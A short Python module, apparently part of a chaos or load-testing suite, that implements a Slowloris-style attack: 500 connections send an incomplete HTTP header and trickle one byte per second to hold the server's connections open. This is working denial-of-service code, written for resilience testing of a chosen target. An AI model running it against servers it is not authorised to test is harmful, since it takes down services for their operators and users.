"""Many connections that send a header, and never its end."""

import socket

from loadtest.chaos.attacks.connections import Client, crowd, drip
from loadtest.chaos.attacks.model import Tally, Target

CONNECTIONS = 500
EVERY = 1.0  # seconds between two bytes


async def attack(target: Target, seconds: float) -> Tally:
    """Hold as many connections as the server lets stay."""

    def client(which: int, tally: Tally) -> Client:
        path = target.prefixes[which % len(target.prefixes)]
        head = f"GET {path}/json HTTP/1.1\r\nHost: ".encode() + target.authority + b"\r\nX-Slow: "

        async def slow(sock: socket.socket) -> None:
            await drip(sock, tally, head, b"x", EVERY)

        return slow

    return await crowd(target, seconds, client, CONNECTIONS)
